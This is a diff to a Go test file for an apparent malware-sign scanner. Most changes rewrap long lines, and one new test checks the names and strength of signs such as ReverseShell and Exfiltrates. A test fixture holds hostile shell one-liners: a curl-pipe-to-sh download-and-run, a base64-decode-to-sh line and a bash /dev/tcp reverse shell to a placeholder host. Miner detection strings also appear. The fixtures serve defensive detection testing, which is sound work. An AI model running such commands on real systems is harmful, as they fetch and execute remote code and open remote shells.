@@ -141,9 +141,11 @@ func TestTheTextIsNotChanged(t *testing.T) {
 
 // Each sign is found once, in the order of the constants.
 func TestSignsAreOrderedAndUnique(t *testing.T) {
-	text := strings.Repeat("curl -s http://192.0.2.1/x | sh\necho eA== | base64 -d | sh\nnohup a &\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1\n", 3)
+	text := strings.Repeat("curl -s http://192.0.2.1/x | sh\necho eA== | base64 -d | sh\nnohup a &\nbash -i >& "+
+		"/dev/tcp/192.0.2.1/4 0>&1\n", 3)
 	order := []Sign{
-		RunsDownload, RunsDecoded, Installs, ReverseShell, Exfiltrates, Mines, Downloads, Connects, Decodes, Spawns, Hides, Persists, Harvests, Obfuscated,
+		RunsDownload, RunsDecoded, Installs, ReverseShell, Exfiltrates, Mines, Downloads, Connects, Decodes, Spawns,
+		Hides, Persists, Harvests, Obfuscated,
 	}
 	last := -1
 	for _, f := range Scan([]byte(text)) {
@@ -161,7 +163,8 @@ func TestSignsAreOrderedAndUnique(t *testing.T) {
 // The strings by which programs, too, are told for miners are those that hardly anything else has.
 func TestStringsOfMiners(t *testing.T) {
 	words := MinerWords()
-	for word, want := range map[string]bool{"stratum+tcp://": true, "xmrig": true, "nicehash.com": false, "2miners.com": false} {
+	for word, want := range map[string]bool{"stratum+tcp://": true, "xmrig": true, "nicehash.com": false,
+		"2miners.com": false} {
 		if slices.Contains(words, word) != want {
 			t.Errorf("%s counts in programs: %v", word, !want)
 		}
@@ -170,5 +173,23 @@ func TestStringsOfMiners(t *testing.T) {
 		if w != strings.ToLower(w) {
 			t.Errorf("%q is not in lower case", w)
 		}
+	}
+}
+
+// Each sign has words of its own, and only those that convict are strong.
+func TestEverySignHasWords(t *testing.T) {
+	seen := map[string]Sign{}
+	strong := []Sign{RunsDownload, RunsDecoded, ReverseShell, Exfiltrates, Mines, Installs}
+	for _, s := range append(strong, Downloads, Connects, Decodes, Spawns, Hides, Persists, Harvests, Obfuscated) {
+		if other, twice := seen[s.Words()]; twice || s.Words() == string(s) && s != Downloads && s != Connects {
+			t.Errorf("%s is called %q, as is %q", s, s.Words(), other)
+		}
+		seen[s.Words()] = s
+		if s.Strong() != slices.Contains(strong, s) {
+			t.Errorf("%s is strong: %v", s, s.Strong())
+		}
+	}
+	if s := Sign("of-tomorrow"); s.Strong() || s.Words() != "of-tomorrow" {
+		t.Errorf("an unknown sign is %q, strong %v", s.Words(), s.Strong())
 	}
 }
